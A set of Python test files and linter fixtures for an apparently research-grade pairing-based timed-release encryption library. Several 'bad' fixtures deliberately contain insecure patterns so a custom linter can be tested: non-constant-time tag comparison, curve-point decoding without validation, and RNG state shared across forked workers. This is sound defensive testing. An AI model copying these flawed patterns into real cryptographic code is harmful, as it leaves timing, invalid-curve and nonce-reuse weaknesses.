