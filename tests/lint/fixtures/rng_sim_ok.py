# lint-fixture: sim/rng_sim_ok.py
"""Negative fixture: sim/ is outside RP101's scope, determinism is fine."""
import random

from repro.crypto.rng import seeded_rng


def scenario(scenario_seed: int):
    return random.Random(scenario_seed), seeded_rng(scenario_seed)
