# lint-fixture: service/proto_service_ok.py
"""RP404 negatives: taxonomy raises, a specific catch that re-wraps,
and a broad except that records then re-raises."""

from repro.errors import PermanentServiceError, TransientServiceError


def classify(code):
    if code == 0:
        return "ok"
    if code < 0:
        raise PermanentServiceError(f"bad request {code}")
    raise TransientServiceError(f"source busy {code}")


def sweep(sources):
    results = []
    for source in sources:
        try:
            results.append(source.poll())
        except OSError as exc:
            raise TransientServiceError(str(exc))
    return results


def audited(source, log):
    try:
        return source.poll()
    except Exception:
        log.append("poll failed")
        raise
