# lint-fixture: svc/proto_update_ok.py
"""RP401/RP405 negatives: every decoded update passes the pairing
check before any sink — predicate branch, raising guard, batch verify
with loop promotion, and a verdict consumed through a local."""


def open_checked(group, scheme, ciphertext, private, blob, server_public):
    update = TimeBoundKeyUpdate.from_bytes(group, blob)
    if not update.verify(group, server_public):
        raise ValueError("forged update")
    return scheme.decrypt(ciphertext, private, update, server_public)


def ingest_strict(group, archive, blob):
    update = TimeBoundKeyUpdate.from_bytes(group, blob)
    update.ensure_valid(group)
    archive[update.time_label] = update


def catch_up(group, server_public, blobs, rng):
    updates = [TimeBoundKeyUpdate.from_bytes(group, blob) for blob in blobs]
    if not verify_archive(group, server_public, updates, rng):
        raise ValueError("bad batch")
    return [update.to_bytes(group) for update in updates]


def replay(group, store, blobs):
    updates = [TimeBoundKeyUpdate.from_bytes(group, blob) for blob in blobs]
    for update in updates:
        update.ensure_valid(group)
    for update in updates:
        store[update.time_label] = update


def audit_consumed(group, server_public, blob):
    update = TimeBoundKeyUpdate.from_bytes(group, blob)
    ok = update.verify(group, server_public)
    if not ok:
        raise ValueError("forged update")
    return update
