# lint-fixture: svc/conc_shard_ok.py
"""RP303 negatives: the audited crossings — wire-encoded bytes through
`shard_secret`, and a KDF output (no longer the secret) as setup."""

from repro.crypto.kdf import derive_key
from repro.parallel import parallel_map, shard_secret


def ship(group, private_scalar, payloads):
    setup = shard_secret(private_scalar.to_bytes(32, "big"))
    return parallel_map("svc.audit", group, setup, payloads, workers=4)


def ship_derived(group, private_scalar, payloads):
    shard_key = derive_key(private_scalar.to_bytes(32, "big"), 32, "svc:shard")
    return parallel_map("svc.audit", group, shard_key, payloads, workers=4)
