# lint-fixture: core/flow_clean_ok.py
"""Flow negatives: sanctioned idioms that must produce zero findings.

* a sanitizer (KDF) clears taint, so the derived key may be rendered;
* serializing *into* a sanitizer is the sanctioned bridge;
* verification pairings are DERIVED, so equality branches on them are
  below the RP202 threshold (they compare public statements);
* group scalar multiplication declassifies (``aG`` is public).
"""


def session_key(rng, point):
    k = random_scalar(rng)
    raw = pair(point, point)
    key = derive_key(raw.to_bytes(), 32, "fixture:session")
    print("session key fingerprint:", key)
    return key


def verify(generator, sig, msg_point, pub):
    left = pair(generator, sig)
    right = pair(msg_point, pub)
    if left != right:
        raise ValueError("bad signature")
    return True


def announce(group, rng):
    a = random_scalar(rng)
    point = mul(group, a)
    print("public point:", point)
    return point
