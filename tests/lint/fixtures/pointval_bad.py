# lint-fixture: pairing/pointval_bad.py
"""Positive fixture: decode paths that skip on-curve/subgroup validation."""
from repro.ec.point import CurvePoint, unchecked_point


def point_from_bytes(curve, data: bytes):
    x = int.from_bytes(data[:32], "big")
    y = int.from_bytes(data[32:], "big")
    return unchecked_point(curve, x, y)  # EXPECT[RP104]


def make_point(curve, x: int, y: int):
    return CurvePoint(curve, x, y)  # EXPECT[RP104]
