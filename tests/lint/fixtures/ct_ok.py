# lint-fixture: crypto/ct_ok.py
"""Negative fixture: sanctioned comparisons RP102 must stay quiet on."""
from repro.crypto.ct import bytes_eq


def verify(tag: bytes, expected: bytes) -> bool:
    return bytes_eq(tag, expected)


def same_owner(public_key_a, public_key_b) -> bool:
    return public_key_a == public_key_b


def well_formed(tag: bytes) -> bool:
    return len(tag) == 32


def grandfathered(tag: bytes, expected: bytes) -> bool:
    # lint: allow[ct-compare] fixture exercising the waiver machinery
    return tag == expected
