# lint-fixture: svc/conc_rng_bad.py
"""RP301 positives: worker-reachable draws from fork-duplicated RNG
state — the stdlib `random` module generator (directly and through a
helper) and a cached module-level `Random` instance."""

import random

from repro.parallel import register_task

_SHARED_RNG = random.Random(1234)


@register_task("svc.sample")
def sample_chunk(group, setup, chunk):
    delay = _backoff()
    pick = _SHARED_RNG.getrandbits(64)  # EXPECT[RP301]
    shift = random.randrange(1 << 16)  # EXPECT[RP301]
    return [setup + bytes([(pick ^ shift ^ delay) & 0xFF]) for _ in chunk]


def _backoff():
    # Reached only through the registered task — still worker code.
    return int(random.random() * 100)  # EXPECT[RP301]
