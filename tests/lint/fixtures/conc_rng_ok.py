# lint-fixture: svc/conc_rng_ok.py
"""RP301 negatives: the sanctioned worker randomness patterns — the
kernel-CSPRNG-backed per-process rng, a locally constructed
SystemRandom, and a cached deterministic generator that an
``os.register_at_fork`` hook reseeds in every forked child."""

import os
import random

from repro.crypto.rng import process_rng
from repro.parallel import register_task

_CACHED = random.Random(99)


def _reseed_cached():
    global _CACHED
    _CACHED = random.Random(os.urandom(8))


os.register_at_fork(after_in_child=_reseed_cached)


@register_task("svc.safe")
def safe_chunk(group, setup, chunk):
    rng = process_rng()  # kernel CSPRNG: nothing to duplicate
    nonce = rng.randrange(1 << 32)
    jitter = _CACHED.getrandbits(32)  # fork-guarded cache: clean
    salt = random.SystemRandom().randbytes(8)
    return [setup + salt + bytes([(nonce ^ jitter) & 0xFF]) for _ in chunk]
