"""Baseline mechanics: fingerprints, persistence, staleness."""

from __future__ import annotations

from pathlib import Path

import pytest

from repro.lint import (
    format_baseline,
    lint_source,
    load_baseline,
    split_by_baseline,
)

BAD_SOURCE = (
    "def verify(tag, expected):\n"
    "    return tag == expected\n"
    "\n"
    "def check(tag, expected):\n"
    "    return tag == expected\n"
)


def _findings():
    findings, _ = lint_source(BAD_SOURCE, "x.py", package_path="crypto/x.py")
    assert len(findings) == 2
    return findings


def test_baseline_roundtrip_suppresses_everything(tmp_path: Path) -> None:
    findings = _findings()
    baseline_file = tmp_path / "baseline.txt"
    baseline_file.write_text(format_baseline(findings))
    baseline = load_baseline(baseline_file)
    new, matched, stale = split_by_baseline(findings, baseline)
    assert new == []
    assert len(matched) == 2
    assert stale == []


def test_identical_lines_get_distinct_fingerprints() -> None:
    first, second = _findings()
    assert first.fingerprint != second.fingerprint
    assert first.fingerprint.endswith("|0")
    assert second.fingerprint.endswith("|1")


def test_fingerprints_survive_line_shifts() -> None:
    shifted, _ = lint_source(
        "# an unrelated comment pushed everything down\n\n" + BAD_SOURCE,
        "x.py",
        package_path="crypto/x.py",
    )
    assert [f.fingerprint for f in shifted] == [f.fingerprint for f in _findings()]


def test_stale_entries_are_reported(tmp_path: Path) -> None:
    findings = _findings()
    ghost = "RP102|crypto/gone.py|abcdefabcdef|0"
    baseline = {findings[0].fingerprint, ghost}
    new, matched, stale = split_by_baseline(findings, baseline)
    assert [f.fingerprint for f in new] == [findings[1].fingerprint]
    assert len(matched) == 1
    assert stale == [ghost]


def test_missing_baseline_file_is_empty(tmp_path: Path) -> None:
    assert load_baseline(tmp_path / "nope.txt") == set()


def test_comments_and_blank_lines_are_ignored(tmp_path: Path) -> None:
    baseline_file = tmp_path / "baseline.txt"
    baseline_file.write_text(
        "# a comment\n"
        "\n"
        "RP102 crypto/x.py aaaaaaaaaaaa 0  # trailing justification\n"
    )
    assert load_baseline(baseline_file) == {"RP102|crypto/x.py|aaaaaaaaaaaa|0"}


def test_malformed_baseline_line_raises(tmp_path: Path) -> None:
    baseline_file = tmp_path / "baseline.txt"
    baseline_file.write_text("RP102 crypto/x.py\n")
    with pytest.raises(ValueError, match="malformed baseline line"):
        load_baseline(baseline_file)
