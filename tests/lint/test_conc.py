"""Tests for the concurrency / fork-safety analysis (RP301–RP305).

Single-file behavior is covered by the ``conc_*`` fixtures through the
shared harness in ``test_rules.py``; this module exercises what that
harness cannot: worker-reachability across module boundaries, the
composition of RP303 with the taint lattice, byte-for-byte determinism
of the whole report, and the CLI surface that rides along
(``--update-baseline``, ``--select``).
"""

from __future__ import annotations

import re
from pathlib import Path

from repro.lint import lint_source
from repro.lint.cli import main
from repro.lint.engine import analyze_modules, parse_module, run

FIXTURES = Path(__file__).parent / "fixtures"
_HEADER = re.compile(r"#\s*lint-fixture:\s*(\S+)")


# -- worker reachability across modules --------------------------------------

_TASKS_SRC = (
    "from repro.parallel import register_task\n"
    "\n"
    "from svc.jitter import backoff\n"
    "\n"
    "\n"
    '@register_task("svc.chunk")\n'
    "def run_chunk(group, setup, chunk):\n"
    "    backoff()\n"
    "    return [bytes(item) for item in chunk]\n"
)

_JITTER_SRC = (
    "import random\n"
    "\n"
    "\n"
    "def backoff():\n"
    "    return int(random.random() * 100)\n"
)


def test_worker_reachability_crosses_module_boundaries():
    """A helper in another module, called from a registered task, is
    worker code — its ambient RNG draw fires RP301 where it happens."""
    modules = [
        parse_module(_TASKS_SRC, "tasks.py", "svc/tasks.py"),
        parse_module(_JITTER_SRC, "jitter.py", "svc/jitter.py"),
    ]
    findings, _, _ = analyze_modules(modules)
    (finding,) = findings
    assert finding.rule == "RP301"
    assert finding.path == "jitter.py"
    assert "backoff" in finding.message
    assert "run_chunk" in finding.message  # names the task that reaches it


def test_helper_alone_is_quiet():
    """The same helper in isolation is not worker-reachable — the
    finding only exists as a whole-program property."""
    findings, _ = lint_source(_JITTER_SRC, "jitter.py", package_path="svc/jitter.py")
    assert not findings


def test_pool_dispatch_target_roots_the_worker_set():
    """``pool.map(crunch, ...)`` makes ``crunch`` worker code even
    without a ``@register_task`` decorator — across modules."""
    driver = (
        "from multiprocessing import Pool\n"
        "\n"
        "from svc.jobs import crunch\n"
        "\n"
        "\n"
        "def fan_out(jobs):\n"
        "    with Pool(2) as pool:\n"
        "        return pool.map(crunch, jobs)\n"
    )
    jobs = (
        "import random\n"
        "\n"
        "\n"
        "def crunch(job):\n"
        "    return job * random.getrandbits(8)\n"
    )
    modules = [
        parse_module(driver, "driver.py", "svc/driver.py"),
        parse_module(jobs, "jobs.py", "svc/jobs.py"),
    ]
    findings, _, _ = analyze_modules(modules)
    (finding,) = findings
    assert finding.rule == "RP301"
    assert finding.path == "jobs.py"
    assert "fan_out" in finding.message  # names the dispatching call site


def test_rp303_composes_with_flow_summaries():
    """The secret crossing the shard boundary is recognized through a
    callee summary, not just a literal source call at the boundary."""
    src = (
        "from repro.parallel import parallel_map\n"
        "\n"
        "\n"
        "def fresh_secret(group, rng):\n"
        "    return random_scalar(rng)\n"
        "\n"
        "\n"
        "def ship(group, rng, payloads):\n"
        "    blob = fresh_secret(group, rng)\n"
        '    return parallel_map("svc.audit", group, blob, payloads, workers=2)\n'
    )
    findings, _ = lint_source(src, "ship.py", package_path="svc/ship.py")
    assert [f.rule for f in findings] == ["RP303"]
    assert "blob" in findings[0].message


def test_worker_only_lazy_init_is_quiet():
    """A cache populated only *inside* workers is per-process state —
    RP304 needs reachability from both sides of the fork."""
    src = (
        "from repro.parallel import register_task\n"
        "\n"
        "_CACHE = {}\n"
        "\n"
        "\n"
        "def _lookup(name):\n"
        "    value = _CACHE.get(name)\n"
        "    if value is None:\n"
        "        value = name.upper()\n"
        "        _CACHE[name] = value\n"
        "    return value\n"
        "\n"
        "\n"
        '@register_task("svc.lookup")\n'
        "def task(group, setup, chunk):\n"
        "    return [_lookup(str(item)) for item in chunk]\n"
    )
    findings, _ = lint_source(src, "cache.py", package_path="svc/cache.py")
    assert not findings


def test_async_task_spawn_roots_parent_reachability():
    """A coroutine handed to ``create_task`` runs in the parent: a lazy
    global init shared between it and worker code straddles the fork
    (the service layer's schedulers and pumps get real scrutiny)."""
    shared = (
        "import asyncio\n"
        "from repro.parallel import register_task\n"
        "\n"
        "_CACHE = {}\n"
        "\n"
        "\n"
        "def _lookup(name):\n"
        "    value = _CACHE.get(name)\n"
        "    if value is None:\n"
        "        value = name.upper()\n"
        "        _CACHE[name] = value\n"
        "    return value\n"
        "\n"
        "\n"
        '@register_task("svc.lookup")\n'
        "def task(group, setup, chunk):\n"
        "    return [_lookup(str(item)) for item in chunk]\n"
    )
    spawn = (
        "\n"
        "\n"
        "async def _refresher():\n"
        '    return _lookup("hot")\n'
        "\n"
        "\n"
        "def start(loop):\n"
        "    loop.create_task(_refresher())\n"
    )
    # Worker-only: per-process state, quiet (same as the test above).
    quiet, _ = lint_source(shared, "cache.py", package_path="svc/cache.py")
    assert not quiet
    # Add an async task touching the same cache: now it straddles.
    findings, _ = lint_source(
        shared + spawn, "cache.py", package_path="svc/cache.py"
    )
    assert any(f.rule == "RP304" for f in findings)


def test_waiver_suppresses_conc_finding():
    src = (
        "from repro.parallel import register_task\n"
        "\n"
        "_LOG = []\n"
        "\n"
        "\n"
        '@register_task("svc.audit2")\n'
        "def task(group, setup, chunk):\n"
        "    # lint: allow[RP302] test-only accumulator, inspected in-process\n"
        "    _LOG.append(len(chunk))\n"
        "    return list(chunk)\n"
    )
    findings, waived = lint_source(src, "log.py", package_path="svc/log.py")
    assert not findings
    assert waived == 1


# -- determinism (the regression the baseline depends on) --------------------


def _render_report(report) -> str:
    return "\n".join(
        f"{f.path}|{f.line}|{f.col}|{f.rule}|{f.fingerprint}|{f.message}"
        for f in report.new
    )


def test_engine_output_is_byte_identical_across_runs():
    """Two runs over the same tree must render byte-for-byte the same —
    fingerprints, order, messages.  The baseline format relies on it."""
    first = run([str(FIXTURES)])
    second = run([str(FIXTURES)])
    rendered = _render_report(first)
    assert rendered  # the fixture tree is intentionally dirty
    assert rendered.encode() == _render_report(second).encode()


def test_module_discovery_order_does_not_change_the_report():
    """Reversing the parse order must not reorder or change findings:
    the report is a function of the program, not of ``rglob`` order."""
    modules = []
    for path in sorted(FIXTURES.rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        header = _HEADER.match(source.splitlines()[0])
        assert header, f"{path.name} must start with '# lint-fixture: <path>'"
        modules.append(parse_module(source, path.as_posix(), header.group(1)))
    forward, _, _ = analyze_modules(modules)
    backward, _, _ = analyze_modules(list(reversed(modules)))
    key = lambda f: (f.path, f.line, f.col, f.rule, f.fingerprint, f.message)
    assert [key(f) for f in forward] == [key(f) for f in backward]
    assert forward  # non-vacuous


# -- CLI: --update-baseline and --select -------------------------------------

DIRTY_CONC = (
    "import random\n"
    "\n"
    "from repro.parallel import register_task\n"
    "\n"
    "\n"
    '@register_task("svc.demo")\n'
    "def demo(group, setup, chunk):\n"
    "    return [random.random() for _ in chunk]\n"
)

CLEAN_CONC = (
    "from repro.parallel import register_task\n"
    "\n"
    "\n"
    '@register_task("svc.demo")\n'
    "def demo(group, setup, chunk):\n"
    "    return list(chunk)\n"
)


def _module(tmp_path: Path, subdir: str, name: str, source: str) -> str:
    path = tmp_path / "repro" / subdir / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(source)
    return str(path)


def test_update_baseline_creates_then_gates_clean(tmp_path, capsys) -> None:
    target = _module(tmp_path, "sim", "demo.py", DIRTY_CONC)
    baseline = tmp_path / "baseline.txt"
    assert main([target, "--baseline", str(baseline), "--update-baseline"]) == 0
    assert "1 entr(ies) added" in capsys.readouterr().out
    assert "RP301" in baseline.read_text()
    assert main([target, "--baseline", str(baseline)]) == 0


def test_update_baseline_preserves_comments_and_drops_stale(tmp_path, capsys) -> None:
    demo = _module(tmp_path, "sim", "demo.py", DIRTY_CONC)
    extra = _module(tmp_path, "sim", "extra.py", DIRTY_CONC)
    baseline = tmp_path / "baseline.txt"
    assert main([demo, "--baseline", str(baseline), "--update-baseline"]) == 0

    # Annotate the surviving entry the way a reviewer would.
    annotated = [
        line + "  # justified: legacy seed" if line.startswith("RP301") else line
        for line in baseline.read_text().splitlines()
    ]
    baseline.write_text("\n".join(annotated) + "\n")

    # A second dirty file: its entry is appended, the annotation stays.
    assert main([demo, extra, "--baseline", str(baseline), "--update-baseline"]) == 0
    assert "1 entr(ies) added, 0 stale entr(ies) removed" in capsys.readouterr().out
    assert "# justified: legacy seed" in baseline.read_text()

    # Fixing demo.py drops its entry — annotation and all — keeps extra's.
    Path(demo).write_text(CLEAN_CONC)
    assert main([demo, extra, "--baseline", str(baseline), "--update-baseline"]) == 0
    assert "1 stale entr(ies) removed" in capsys.readouterr().out
    text = baseline.read_text()
    assert "# justified: legacy seed" not in text
    assert "sim/extra.py" in text
    assert "sim/demo.py" not in text


def test_malformed_baseline_under_update_is_usage_error(tmp_path, capsys) -> None:
    target = _module(tmp_path, "sim", "demo.py", DIRTY_CONC)
    baseline = tmp_path / "baseline.txt"
    baseline.write_text("not a valid entry line\n")
    assert main([target, "--baseline", str(baseline), "--update-baseline"]) == 2
    assert "malformed baseline line" in capsys.readouterr().err


MIXED = (
    "import random\n"
    "\n"
    "from repro.parallel import register_task\n"
    "\n"
    "\n"
    "def verify(tag, expected):\n"
    "    return tag == expected\n"
    "\n"
    "\n"
    '@register_task("svc.mix")\n'
    "def demo(group, setup, chunk):\n"
    "    return [random.random() for _ in chunk]\n"
)


def test_select_reports_only_the_named_family(tmp_path, capsys) -> None:
    target = _module(tmp_path, "crypto", "mixed.py", MIXED)
    assert main([target, "--no-baseline", "--select", "RP3"]) == 1
    out = capsys.readouterr().out
    assert "RP301" in out
    assert "RP102" not in out
    assert "RP101" not in out


def test_select_scopes_the_baseline_the_same_way(tmp_path, capsys) -> None:
    """Out-of-scope baseline entries are neither matched nor stale, so a
    family-scoped CI job does not trip over the other families' state."""
    target = _module(tmp_path, "crypto", "mixed.py", MIXED)
    baseline = tmp_path / "baseline.txt"
    assert main([target, "--baseline", str(baseline), "--write-baseline"]) == 0
    assert main([target, "--baseline", str(baseline), "--select", "RP3"]) == 0
    out = capsys.readouterr().out
    assert "stale baseline entry" not in out  # RP1xx entries not reported stale


def test_empty_select_is_usage_error(capsys) -> None:
    assert main(["--select", " , "]) == 2
    assert "names no rules" in capsys.readouterr().err


def test_list_rules_includes_conc_family(capsys) -> None:
    assert main(["--list-rules"]) == 0
    out = capsys.readouterr().out
    for rule_id in ("RP301", "RP302", "RP303", "RP304", "RP305"):
        assert rule_id in out


def test_sarif_includes_conc_descriptors_and_results(tmp_path, capsys) -> None:
    import json

    target = _module(tmp_path, "sim", "demo.py", DIRTY_CONC)
    assert main([target, "--no-baseline", "--format", "sarif"]) == 1
    payload = json.loads(capsys.readouterr().out)
    (sarif_run,) = payload["runs"]
    rule_ids = {rule["id"] for rule in sarif_run["tool"]["driver"]["rules"]}
    assert {"RP301", "RP302", "RP303", "RP304", "RP305"} <= rule_ids
    assert {result["ruleId"] for result in sarif_run["results"]} == {"RP301"}
