"""Fixture-driven rule tests.

Each file under ``fixtures/`` is a self-describing test case: its first
line pins the *virtual* package path the snippet pretends to live at
(``# lint-fixture: core/rng_bad.py``), and every line expected to
produce a finding carries an ``# EXPECT[RPxxx]`` marker.  The harness
asserts the engine reports exactly the marked (line, rule) pairs — so a
rule firing anywhere unexpected fails just as loudly as a rule missing
its target.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from repro.lint import all_rule_ids, lint_source

FIXTURES = Path(__file__).parent / "fixtures"
_HEADER = re.compile(r"#\s*lint-fixture:\s*(\S+)")
_EXPECT = re.compile(r"#\s*EXPECT\[(RP\d+)\]")


def _load_fixture(path: Path) -> tuple[str, str, set[tuple[int, str]]]:
    source = path.read_text(encoding="utf-8")
    lines = source.splitlines()
    header = _HEADER.match(lines[0]) if lines else None
    assert header, f"{path.name} must start with '# lint-fixture: <virtual path>'"
    expected = {
        (number, match.group(1))
        for number, line in enumerate(lines, start=1)
        for match in _EXPECT.finditer(line)
    }
    return source, header.group(1), expected


def _fixture_paths() -> list[Path]:
    paths = sorted(FIXTURES.glob("*.py"))
    assert paths, "fixture directory is empty"
    return paths


@pytest.mark.parametrize("fixture", _fixture_paths(), ids=lambda p: p.name)
def test_fixture_findings_match_expect_markers(fixture: Path) -> None:
    source, virtual_path, expected = _load_fixture(fixture)
    findings, _ = lint_source(source, fixture.as_posix(), package_path=virtual_path)
    actual = {(finding.line, finding.rule) for finding in findings}
    assert actual == expected, "\n".join(
        [
            f"fixture {fixture.name} (as {virtual_path}):",
            f"  unexpected: {sorted(actual - expected)}",
            f"  missing:    {sorted(expected - actual)}",
        ]
    )


def test_every_rule_has_a_positive_fixture() -> None:
    covered = set()
    for fixture in _fixture_paths():
        _, _, expected = _load_fixture(fixture)
        covered.update(rule for _, rule in expected)
    assert covered == set(all_rule_ids())


def test_waiver_suppresses_and_is_counted() -> None:
    source, virtual_path, _ = _load_fixture(FIXTURES / "ct_ok.py")
    _, waived = lint_source(source, "ct_ok.py", package_path=virtual_path)
    assert waived == 1


def test_waiver_only_silences_the_named_rule() -> None:
    source = (
        "def verify(tag, expected):\n"
        "    # lint: allow[rng-discipline] wrong rule on purpose\n"
        "    return tag == expected\n"
    )
    findings, waived = lint_source(source, "x.py", package_path="crypto/x.py")
    assert waived == 0
    assert [finding.rule for finding in findings] == ["RP102"]


def test_waiver_accepts_rule_id_and_comma_lists() -> None:
    source = (
        "def verify(tag, expected):\n"
        "    return tag == expected  # lint: allow[RP102, RP103] fixture\n"
    )
    findings, waived = lint_source(source, "x.py", package_path="crypto/x.py")
    assert findings == []
    assert waived == 1


def test_out_of_scope_paths_are_ignored() -> None:
    source, _, expected = _load_fixture(FIXTURES / "rng_bad.py")
    assert expected  # fires in core/ ...
    findings, _ = lint_source(source, "rng_bad.py", package_path="sim/rng_bad.py")
    assert [finding for finding in findings if finding.rule == "RP101"] == []
