"""Shared fixtures.

Everything expensive (pairing groups, server key pairs) is
session-scoped; all randomness is seeded so the suite is deterministic.
The ``toy64`` parameter set keeps pairings in the low-millisecond range;
a handful of tests marked ``ss512`` check the production-size set.
"""

from __future__ import annotations

import random

import pytest

from repro.core.keys import ServerKeyPair, UserKeyPair
from repro.core.timeserver import PassiveTimeServer
from repro.pairing.api import PairingGroup


@pytest.fixture(scope="session")
def group() -> PairingGroup:
    """Family A (denominator-free Miller loop) over toy64."""
    return PairingGroup("toy64", family="A")


@pytest.fixture(scope="session")
def group_b() -> PairingGroup:
    """Family B (general Miller loop, deterministic MapToPoint) over toy64."""
    return PairingGroup("toy64", family="B")


@pytest.fixture(scope="session", params=["A", "B"])
def any_group(request, group, group_b) -> PairingGroup:
    """Parametrized over both curve families."""
    return group if request.param == "A" else group_b


@pytest.fixture()
def rng() -> random.Random:
    return random.Random(0xD15EA5E)


@pytest.fixture(scope="session")
def session_rng() -> random.Random:
    return random.Random(0x5E551011)


@pytest.fixture(scope="session")
def server(group, session_rng) -> PassiveTimeServer:
    return PassiveTimeServer(group, rng=session_rng)


@pytest.fixture(scope="session")
def server_keypair(group, session_rng) -> ServerKeyPair:
    return ServerKeyPair.generate(group, session_rng)


@pytest.fixture(scope="session")
def user(group, server, session_rng) -> UserKeyPair:
    return UserKeyPair.generate(group, server.public_key, session_rng)
