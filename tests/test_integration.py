"""Cross-module integration tests: full protocol flows over serialization.

Everything here round-trips through bytes between steps, as a real
deployment would (sender, server and receiver are separate processes in
practice), and runs on both curve families.
"""

import pytest

from repro.core.certification import CertificateAuthority, verify_rekeyed_public_key
from repro.core.keys import ServerPublicKey, UserKeyPair, UserPublicKey
from repro.core.timeserver import PassiveTimeServer, TimeBoundKeyUpdate, epoch_label
from repro.core.tre import TimedReleaseScheme, TRECiphertext
from repro.crypto.rng import seeded_rng


class TestWireLevelFlow:
    """Simulate three separate parties exchanging only byte strings."""

    def test_full_flow_over_bytes(self, any_group):
        group = any_group
        rng = seeded_rng("wire")
        scheme = TimedReleaseScheme(group)

        # Server process: generate keys, publish public key bytes.
        server = PassiveTimeServer(group, rng=rng)
        server_pk_bytes = server.public_key.to_bytes(group)

        # Receiver process: parse server key, publish own key bytes.
        receiver_view_server = ServerPublicKey.from_bytes(group, server_pk_bytes)
        receiver = UserKeyPair.generate(group, receiver_view_server, rng)
        receiver_pk_bytes = receiver.public.to_bytes(group)

        # Sender process: parse both keys, validate, encrypt, emit bytes.
        sender_view_server = ServerPublicKey.from_bytes(group, server_pk_bytes)
        sender_view_receiver = UserPublicKey.from_bytes(group, receiver_pk_bytes)
        assert sender_view_receiver.verify_well_formed(group, sender_view_server)
        ct_bytes = scheme.encrypt(
            b"wire-level message", sender_view_receiver, sender_view_server,
            b"T-wire", rng,
        ).to_bytes(group)

        # Server process: broadcast the update as bytes.
        update_bytes = server.publish_update(b"T-wire").to_bytes(group)

        # Receiver process: parse everything and decrypt.
        ct = TRECiphertext.from_bytes(group, ct_bytes)
        update = TimeBoundKeyUpdate.from_bytes(group, update_bytes)
        plaintext = scheme.decrypt(ct, receiver, update, receiver_view_server)
        assert plaintext == b"wire-level message"

    def test_many_receivers_one_update(self, group):
        """The headline scalability property at the protocol level: 20
        receivers, 20 ciphertexts, ONE broadcast update opens them all."""
        rng = seeded_rng("scale")
        scheme = TimedReleaseScheme(group)
        server = PassiveTimeServer(group, rng=rng)
        label = epoch_label(7)
        receivers = [
            UserKeyPair.generate(group, server.public_key, rng) for _ in range(20)
        ]
        ciphertexts = [
            scheme.encrypt(
                f"msg-{i}".encode(), r.public, server.public_key, label, rng
            )
            for i, r in enumerate(receivers)
        ]
        update = server.publish_update(label)
        assert server.updates_published == 1
        for i, (r, ct) in enumerate(zip(receivers, ciphertexts)):
            assert scheme.decrypt(ct, r, update) == f"msg-{i}".encode()

    def test_missed_update_recovered_from_archive(self, group):
        """§3: a receiver who missed the broadcast looks the update up
        from the public archive later."""
        rng = seeded_rng("archive")
        scheme = TimedReleaseScheme(group)
        server = PassiveTimeServer(group, rng=rng)
        receiver = UserKeyPair.generate(group, server.public_key, rng)
        labels = [epoch_label(i) for i in range(5)]
        ct = scheme.encrypt(
            b"missed me?", receiver.public, server.public_key, labels[2], rng
        )
        for label in labels:
            server.publish_update(label)
        # Much later: fetch from the archive, not the live broadcast.
        update = server.lookup(labels[2])
        assert scheme.decrypt(ct, receiver, update) == b"missed me?"


class TestKeyLifecycle:
    def test_password_receiver_to_server_change(self, group):
        """A password-derived key, certified once, survives a time-server
        migration without re-certification, and decrypts under the new
        server."""
        rng = seeded_rng("lifecycle")
        scheme = TimedReleaseScheme(group)
        old_server = PassiveTimeServer(group, rng=rng)
        user = UserKeyPair.from_password(group, old_server.public_key, "correct horse")

        ca = CertificateAuthority(group, rng)
        cert = ca.issue(
            b"alice", user.public.a_generator, old_server.public_key.generator
        )

        new_server = PassiveTimeServer(group, rng=rng)
        rekeyed = user.rekey_to_server(group, new_server.public_key)
        verify_rekeyed_public_key(
            group, cert, new_server.public_key, rekeyed.public, ca
        )

        ct = scheme.encrypt(
            b"post-migration mail", rekeyed.public, new_server.public_key,
            b"T-new", rng,
        )
        update = new_server.publish_update(b"T-new")
        assert scheme.decrypt(ct, rekeyed, update) == b"post-migration mail"

    def test_update_is_cross_scheme_and_cross_user(self, group):
        """One update simultaneously serves: plain TRE for two users, the
        FO variant, the hybrid DEM, and epoch-key derivation."""
        from repro.core.fujisaki_okamoto import FOTimedReleaseScheme
        from repro.core.hybrid_tre import HybridTimedReleaseScheme
        from repro.core.key_insulation import SafeDevice, decrypt_with_epoch_key

        rng = seeded_rng("one-update")
        server = PassiveTimeServer(group, rng=rng)
        label = b"the-one-update"
        u1 = UserKeyPair.generate(group, server.public_key, rng)
        u2 = UserKeyPair.generate(group, server.public_key, rng)
        tre = TimedReleaseScheme(group)
        fo = FOTimedReleaseScheme(group)
        hybrid = HybridTimedReleaseScheme(group)

        c1 = tre.encrypt(b"m1", u1.public, server.public_key, label, rng)
        c2 = tre.encrypt(b"m2", u2.public, server.public_key, label, rng)
        c3 = fo.encrypt(b"m3", u1.public, server.public_key, label, rng)
        c4 = hybrid.encrypt(b"m4" * 500, u2.public, server.public_key, label, rng)

        update = server.publish_update(label)
        assert tre.decrypt(c1, u1, update) == b"m1"
        assert tre.decrypt(c2, u2, update) == b"m2"
        assert fo.decrypt(c3, u1, update, server.public_key) == b"m3"
        assert hybrid.decrypt(c4, u2, update) == b"m4" * 500
        epoch_key = SafeDevice(group, u1, server.public_key).derive_epoch_key(update)
        assert decrypt_with_epoch_key(group, c1, epoch_key) == b"m1"


class TestCrossFamilyIsolation:
    def test_families_are_separate_universes(self, group, group_b):
        rng = seeded_rng("xfam")
        server_a = PassiveTimeServer(group, rng=rng)
        server_b = PassiveTimeServer(group_b, rng=rng)
        update_b = server_b.publish_update(b"T")
        # Mixing family-A keys into a family-B pairing is rejected, not
        # silently accepted.
        from repro.errors import ReproError

        with pytest.raises(ReproError):
            group_b.pair(update_b.point, server_a.public_key.generator)
        # And parsing family-B bytes in family A fails or mismatches.
        blob = update_b.to_bytes(group_b)
        try:
            parsed = TimeBoundKeyUpdate.from_bytes(group, blob)
        except ReproError:
            return
        assert not parsed.verify(group, server_a.public_key)
