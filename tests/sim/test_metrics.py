"""Tests for metrics collection and the anonymity ledger."""

import pytest

from repro.sim.metrics import AnonymityLedger, MetricsCollector


class TestMetricsCollector:
    def test_channel_accounting(self):
        metrics = MetricsCollector()
        metrics.record_message("a", 10)
        metrics.record_message("a", 20)
        metrics.record_message("b", 5)
        assert metrics.channel_totals() == {"a": (2, 30), "b": (1, 5)}

    def test_series_summary(self):
        metrics = MetricsCollector()
        for value in (1.0, 2.0, 3.0, 4.0):
            metrics.observe("s", value)
        summary = metrics.summary("s")
        assert summary["count"] == 4
        assert summary["mean"] == pytest.approx(2.5)
        assert summary["min"] == 1.0
        assert summary["max"] == 4.0
